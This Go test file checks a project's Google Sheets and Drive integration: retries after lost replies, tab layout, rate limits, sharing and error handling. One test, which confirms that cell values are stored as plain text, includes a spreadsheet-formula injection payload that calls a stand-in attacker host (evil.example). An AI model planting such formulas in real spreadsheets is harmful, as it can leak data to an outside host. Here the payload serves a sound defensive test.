package activities_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/stretchr/testify/require"

	"gatehouse/activities/api"
	"gatehouse/activities/gsuite"
	"gatehouse/activities/step"
	"gatehouse/internal/config"
	"gatehouse/sandbox/control"
)

// sheetsOf lists the spreadsheets as Google has them.
func (r *rig) sheetsOf() []control.Spreadsheet {
	r.t.Helper()
	list, err := r.sandbox.Spreadsheets(r.t.Context())
	require.NoError(r.t, err)
	return list
}

func (r *rig) mails() []control.Mail {
	r.t.Helper()
	list, err := r.sandbox.Mails(r.t.Context())
	require.NoError(r.t, err)
	return list
}

// persist repeats a call as Temporal would, each attempt in a new process, until it succeeds.
func (r *rig) persist(call func() error) (attempts int) {
	r.t.Helper()
	for attempts = 1; attempts <= 8; attempts++ {
		err := call()
		if err == nil {
			return attempts
		}
		app := application(r.t, err)
		require.False(r.t, app.NonRetryable(), "must be retried: %v", err)
		r.restart()
		r.clock.Advance(max(app.NextRetryDelay(), time.Second))
	}
	require.Fail(r.t, "still failing after eight attempts")
	return attempts
}

// lostReplies are the ways in which a reply is lost after the effect, and one in which nothing ever arrived.
func lostReplies() map[string]control.Fault {
	return map[string]control.Fault{
		"connection dropped":   {When: "after", Style: "drop"},
		"reply cut short":      {When: "after", Style: "truncate"},
		"reply unreadable":     {When: "after", Style: "malformed"},
		"gateway says 502":     {When: "after", Style: "status", Status: 502},
		"nothing ever arrived": {When: "before", Style: "drop"},
		"quota":                {When: "before", Style: "rate_limit", RetryAfter: 20},
	}
}

func access() gsuite.Tab {
	return gsuite.Tab{
		ID: gsuite.TabID("2026-03", "access"), Title: "2026-03 Access", Rows: 100, FrozenRows: 1,
		Content: [][]any{{"Person", "Role", "Decision"}}, Widths: []int64{220, 160}, Filter: true,
		Protected: []gsuite.Protection{{
			Note: "the snapshot; decisions go into the last column", Except: []gsuite.Area{{FirstRow: 1, FirstColumn: 2, Columns: 1}},
		}},
		Choices:    []gsuite.Choice{{Area: gsuite.Area{FirstRow: 1, FirstColumn: 2, Columns: 1}, Values: []string{"keep", "remove"}}},
		Highlights: []gsuite.Highlight{{Area: gsuite.Area{FirstRow: 1, FirstColumn: 2, Columns: 1}, Text: "remove", Colour: "red"}},
	}
}

func summary() gsuite.Tab {
	return gsuite.Tab{
		ID: gsuite.TabID("2026-03", "summary"), Title: "2026-03 Summary", First: true, Rows: 40, Columns: 8,
		Content: [][]any{{"Access review", "March 2026"}, {"Active users", 58}, {"No MFA", 7}},
		Bold:    []gsuite.Area{{Rows: 1}},
		Charts: []gsuite.Chart{{
			Title: "Findings", Kind: "BAR", Names: gsuite.Area{FirstRow: 1, Rows: 2, Columns: 1},
			Values: gsuite.Area{FirstRow: 1, FirstColumn: 1, Rows: 2, Columns: 1}, Row: 5,
		}},
	}
}

func TestSpreadsheetIsMadeOnce(t *testing.T) {
	t.Parallel()
	ensure := func(r *rig) func() error {
		return func() error {
			_, err := r.vendors.Activities.Sheets.EnsureSpreadsheet(t.Context(), "access-review/2026", "Access review 2026")
			return err
		}
	}
	for how, fault := range lostReplies() {
		t.Run(how, func(t *testing.T) {
			t.Parallel()
			r := newRig(t, rigOptions{})
			fault.Op = "google.drive.create_file"
			r.fault(fault)
			require.Greater(t, r.persist(ensure(r)), 1)
			r.restart()
			require.NoError(t, ensure(r)())
			require.Len(t, r.sheetsOf(), 1)
			require.Equal(t, "Access review 2026", r.sheetsOf()[0].Title)
		})
	}
	t.Run("search lags behind", func(t *testing.T) {
		t.Parallel()
		r := newRig(t, rigOptions{})
		require.NoError(t, r.sandbox.Google(t.Context(), control.GoogleSettings{IndexLagMS: 2000}))
		r.fault(control.Fault{Op: "google.drive.create_file", When: "after", Style: "drop"})
		require.Error(t, ensure(r)())
		r.restart()
		err := ensure(r)()
		require.Equal(t, 3*time.Second, application(t, err).NextRetryDelay(), "not found means nothing before the index has caught up")
		r.clock.Advance(3 * time.Second)
		require.NoError(t, ensure(r)())
		require.Len(t, r.sheetsOf(), 1)
	})
	t.Run("somebody made it beforehand", func(t *testing.T) {
		t.Parallel()
		r := newRig(t, rigOptions{config: func(c *config.Config) { c.Google.Spreadsheets = map[string]string{"access-review/2026": "1Made"} }})
		id, err := r.vendors.Activities.Sheets.EnsureSpreadsheet(t.Context(), "access-review/2026", "x")
		require.NoError(t, err)
		require.Equal(t, "1Made", id)
		require.Empty(t, r.sheetsOf())
	})
}

func TestTabIsThereWithEverythingOrNotAtAll(t *testing.T) {
	t.Parallel()
	for how, fault := range lostReplies() {
		t.Run(how, func(t *testing.T) {
			t.Parallel()
			r := newRig(t, rigOptions{})
			id, err := r.vendors.Activities.Sheets.EnsureSpreadsheet(t.Context(), "k", "t")
			require.NoError(t, err)
			fault.Op = "google.sheets.batch_update"
			r.fault(fault)
			mark := r.mark()
			for _, tab := range []gsuite.Tab{access(), summary()} {
				r.persist(func() error { _, err := r.vendors.Activities.Sheets.EnsureTab(t.Context(), id, tab); return err })
				added, err := r.vendors.Activities.Sheets.EnsureTab(t.Context(), id, tab)
				require.NoError(t, err)
				require.False(t, added)
			}
			require.Empty(t, cmp.Diff([]string{
				`google.sheets.batch_update: tab "2026-03 Access" added; 3 cells of "2026-03 Access" changed; tab "Sheet1" deleted`,
				`google.sheets.batch_update: tab "2026-03 Summary" added; 6 cells of "2026-03 Summary" changed; chart "Findings" added to "2026-03 Summary"`,
			}, r.effects(mark)))
		})
	}
	t.Run("as it looks", func(t *testing.T) {
		t.Parallel()
		r := newRig(t, rigOptions{})
		id, err := r.vendors.Activities.Sheets.EnsureSpreadsheet(t.Context(), "k", "t")
		require.NoError(t, err)
		for _, tab := range []gsuite.Tab{access(), summary()} {
			added, err := r.vendors.Activities.Sheets.EnsureTab(t.Context(), id, tab)
			require.NoError(t, err)
			require.True(t, added)
		}
		book := r.sheetsOf()[0]
		require.Len(t, book.Tabs, 2, "the empty tab that Google makes is gone")
		require.Equal(t, "2026-03 Summary", book.Tabs[0].Title, "first")
		require.Equal(t, []string{"BAR Findings"}, book.Tabs[0].Charts)
		require.Equal(t, control.Tab{
			ID: access().ID, Title: "2026-03 Access", Rows: 100, Columns: 3, FrozenRows: 1, Filter: true,
			Protected: []string{access().Protected[0].Note}, Choices: []string{"keep, remove"},
			Widths: map[int64]int64{0: 220, 1: 160}, Values: [][]any{{"Person", "Role", "Decision"}},
		}, book.Tabs[1])

		reviewer := "boss@acme.example"
		require.NoError(t, r.sandbox.EditSheet(t.Context(), id, "'2026-03 Access'!C2", reviewer, [][]any{{"keep"}}))
		require.ErrorContains(t, r.sandbox.EditSheet(t.Context(), id, "'2026-03 Access'!A2", reviewer, [][]any{{"x"}}), "protected")
		require.ErrorContains(t, r.sandbox.EditSheet(t.Context(), id, "'2026-03 Access'!C2", reviewer, [][]any{{"maybe"}}), "not one of")
	})
	t.Run("a file of somebody's keeps its first tab", func(t *testing.T) {
		t.Parallel()
		r := newRig(t, rigOptions{})
		id, err := r.vendors.Activities.Sheets.EnsureSpreadsheet(t.Context(), "k", "t")
		require.NoError(t, err)
		require.NoError(t, r.sandbox.EditSheet(t.Context(), id, "Sheet1!B2", "boss@acme.example", [][]any{{"a note"}}))
		_, err = r.vendors.Activities.Sheets.EnsureTab(t.Context(), id, access())
		require.NoError(t, err)
		require.NotNil(t, r.sheetsOf()[0].Tab("Sheet1"))
	})
}

func TestValuesAreTextAtTheirPlace(t *testing.T) {
	t.Parallel()
	rows := [][]any{{`=IMPORTXML("http://evil.example")`, "+491701234567", "keep"}, {"@ada", "-1", nil}, {"0012", 7, true}}
	for how, fault := range lostReplies() {
		t.Run(how, func(t *testing.T) {
			t.Parallel()
			r := newRig(t, rigOptions{})
			sheets := func() *gsuite.Sheets { return r.vendors.Activities.Sheets }
			id, err := sheets().EnsureSpreadsheet(t.Context(), "k", "t")
			require.NoError(t, err)
			_, err = sheets().EnsureTab(t.Context(), id, access())
			require.NoError(t, err)
			fault.Op = "google.sheets.batch_update_values"
			r.fault(fault)
			mark := r.mark()
			write := func() error {
				return sheets().Write(t.Context(), id, gsuite.Range{At: gsuite.At("2026-03 Access", 1, 0), Values: rows})
			}
			r.persist(write)
			require.NoError(t, write())
			require.Equal(t, []string{`google.sheets.batch_update_values: 8 cells of "2026-03 Access" changed`}, r.effects(mark))
			tab := r.sheetsOf()[0].Tab("2026-03 Access")
			require.Empty(t, tab.Formulas)
			require.Equal(t, [][]any{{"Person", "Role", "Decision"}, rows[0], {"@ada", "-1"}, {"0012", 7.0, true}}, tab.Values)
			got, err := sheets().Read(t.Context(), id, "'2026-03 Access'!A4:C4")
			require.NoError(t, err)
			require.Equal(t, [][]any{{"0012", 7.0, true}}, got)
		})
	}
}

func TestWritingGoesOnWhereItStopped(t *testing.T) {
	t.Parallel()
	r := newRig(t, rigOptions{config: func(c *config.Config) { c.Google.PerMinute = 3 }})
	sheets := r.vendors.Activities.Sheets
	id, err := sheets.EnsureSpreadsheet(t.Context(), "k", "t")
	require.NoError(t, err)
	tab := access()
	tab.Rows = 20_001
	_, err = sheets.EnsureTab(t.Context(), id, tab)
	require.NoError(t, err)
	var rows [][]any
	for i := range 20_000 {
		rows = append(rows, []any{fmt.Sprint("person ", i), strings.Repeat("r", 300), ""})
	}
	blocks, err := gsuite.Blocks(tab.Title, 1, rows)
	require.NoError(t, err)
	require.Len(t, blocks, 4)
	limited := 0
	for len(blocks) > 0 {
		n, err := sheets.WriteSome(t.Context(), id, blocks)
		err = step.ToApplicationError(err)
		blocks = blocks[n:]
		if err != nil {
			app := application(t, err)
			require.Equal(t, api.ErrRateLimited, app.Type())
			require.Positive(t, app.NextRetryDelay())
			r.clock.Advance(app.NextRetryDelay())
			limited++
		}
	}
	require.Positive(t, limited, "three writes a minute are not enough at once")
	require.Equal(t, 4, r.calls(0, "google.sheets.batch_update_values"), "what is written is not written again, and Google refused none")
	require.Len(t, r.sheetsOf()[0].Tab(tab.Title).Values, 20_001)
	got := r.sheetsOf()[0].Tab(tab.Title).Values[20_000]
	require.Equal(t, "person 19999", got[0])
}

func TestFullSpreadsheetsAreFollowedByOthers(t *testing.T) {
	t.Parallel()
	r := newRig(t, rigOptions{config: func(c *config.Config) { c.Google.CellLimit = 2000 }})
	require.NoError(t, r.sandbox.Google(t.Context(), control.GoogleSettings{CellLimit: 30_000}))
	place := func(part int) (string, error) {
		return r.vendors.Activities.Sheets.Place(t.Context(), "access-review/2026", "Access review 2026", gsuite.Tab{
			ID: gsuite.TabID("part", fmt.Sprint(part)), Title: fmt.Sprint("Part ", part), Rows: 250, Columns: 3,
		})
	}
	for range 2 {
		for part := range 6 {
			_, err := place(part)
			require.NoError(t, err)
			r.clock.Advance(20 * time.Second)
		}
		r.restart()
	}
	var got []string
	for _, s := range r.sheetsOf() {
		for _, tab := range s.Tabs {
			got = append(got, s.Title+": "+tab.Title)
		}
		require.LessOrEqual(t, s.Cells, int64(2000))
	}
	require.Equal(t, []string{
		"Access review 2026: Part 0", "Access review 2026: Part 1",
		"Access review 2026 (2): Part 2", "Access review 2026 (2): Part 3",
		"Access review 2026 (3): Part 4", "Access review 2026 (3): Part 5",
	}, got)
	_, err := r.vendors.Activities.Sheets.Place(t.Context(), "k", "t", gsuite.Tab{ID: 1, Title: "x", Rows: 1000, Columns: 3})
	require.True(t, application(t, err).NonRetryable())
}

func TestSharingMailsNobody(t *testing.T) {
	t.Parallel()
	for how, fault := range lostReplies() {
		t.Run(how, func(t *testing.T) {
			t.Parallel()
			r := newRig(t, rigOptions{})
			id, err := r.vendors.Activities.Sheets.EnsureSpreadsheet(t.Context(), "k", "t")
			require.NoError(t, err)
			fault.Op = "google.drive.create_permission"
			r.fault(fault)
			mark := r.mark()
			share := func(who, role string) {
				r.persist(func() error {
					refused, err := r.vendors.Activities.Sheets.Share(t.Context(), id, who, role)
					require.False(t, refused)
					return step.ToApplicationError(err)
				})
			}
			for range 2 {
				share("group:compliance@acme.example", "writer")
				share("Boss@acme.example", "reader")
			}
			share("boss@acme.example", "writer")
			share("boss@acme.example", "commenter")
			require.Equal(t, []string{
				"google.drive.create_permission: shared as writer", "google.drive.create_permission: shared as reader",
				"google.drive.update_permission: role reader -> writer",
			}, r.effects(mark))
			require.Empty(t, r.mails())
		})
	}
}

func TestWithoutGoogle(t *testing.T) {
	t.Parallel()
	r := newRig(t, rigOptions{config: func(c *config.Config) { c.Google = config.Google{} }})
	s := r.vendors.Activities.Sheets
	_, ensure := s.EnsureSpreadsheet(t.Context(), "k", "t")
	_, tab := s.EnsureTab(t.Context(), "x", access())
	_, place := s.Place(t.Context(), "k", "t", access())
	_, size := s.Size(t.Context(), "x")
	_, values := s.Read(t.Context(), "x", "A1")
	_, shared := s.Share(t.Context(), "x", "a@b.example", "reader")
	_, mailed := r.vendors.Activities.Letters.Deliver(t.Context(), letter())
	for _, err := range []error{
		ensure, tab, place, size, values, mailed, s.Write(t.Context(), "x"), step.ToApplicationError(shared), s.Resize(t.Context(), "x", 1, 2),
	} {
		app := application(t, err)
		require.True(t, app.NonRetryable())
		require.ErrorContains(t, err, "google is not configured: set google.credentials")
	}
}

func TestWhatGoogleRefuses(t *testing.T) {
	t.Parallel()
	for name, tc := range map[string]struct {
		fault     control.Fault
		settings  *control.GoogleSettings
		kind      string
		permanent bool
		wait      time.Duration
	}{
		"quota of Drive is a 403": {fault: control.Fault{Style: "rate_limit", RetryAfter: 30}, kind: api.ErrRateLimited, wait: 30 * time.Second},
		"quota without a time":    {fault: control.Fault{Style: "rate_limit"}, kind: api.ErrRateLimited},
		"down":                    {fault: control.Fault{Style: "status", Status: 503}, kind: api.ErrUnavailable},
		"forbidden":               {fault: control.Fault{Style: "status", Status: 403}, kind: api.ErrUnauthorized, wait: time.Minute},
		"a policy of the domain":  {fault: control.Fault{Style: "status", Status: 403, ContentType: "application/json", Body: `{"error":{"code":403,"message":"no","errors":[{"reason":"domainPolicy"}]}}`}, kind: api.ErrInvalid, permanent: true},
		"the folder is gone":      {fault: control.Fault{Style: "status", Status: 404}, kind: api.ErrNotFound, permanent: true},
		"invalid":                 {fault: control.Fault{Style: "status", Status: 400}, kind: api.ErrInvalid, permanent: true},
		"delegation not granted":  {settings: &control.GoogleSettings{Scopes: []string{"https://www.googleapis.com/auth/gmail.compose"}}, kind: api.ErrUnauthorized, wait: time.Minute},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := newRig(t, rigOptions{})
			if tc.settings != nil {
				require.NoError(t, r.sandbox.Google(t.Context(), *tc.settings))
			} else {
				tc.fault.Op, tc.fault.When = "google.drive.create_file", "before"
				r.fault(tc.fault)
			}
			_, err := r.vendors.Activities.Sheets.EnsureSpreadsheet(t.Context(), "k", "a title")
			app := application(t, err)
			require.Equal(t, tc.kind, app.Type())
			require.Equal(t, tc.permanent, app.NonRetryable())
			require.Equal(t, tc.wait, app.NextRetryDelay())
			require.NotContains(t, err.Error(), "http", "no URL, no body: %v", err)
			require.NoError(t, r.sandbox.Google(t.Context(), control.GoogleSettings{}))
			if !tc.permanent {
				r.clock.Advance(time.Minute)
				_, err = r.vendors.Activities.Sheets.EnsureSpreadsheet(t.Context(), "k", "a title")
				require.NoError(t, err)
			}
		})
	}
}

func TestTokenThatGoogleEndedIsReplaced(t *testing.T) {
	t.Parallel()
	r := newRig(t, rigOptions{})
	s := r.vendors.Activities.Sheets
	id, err := s.EnsureSpreadsheet(t.Context(), "k", "t")
	require.NoError(t, err)
	require.NoError(t, r.sandbox.ExpireGoogleTokens(t.Context()))
	_, err = s.EnsureTab(t.Context(), id, access())
	require.NoError(t, err)
	require.Equal(t, 2, r.calls(0, "google.token"), "one for the robot, and one anew")
}
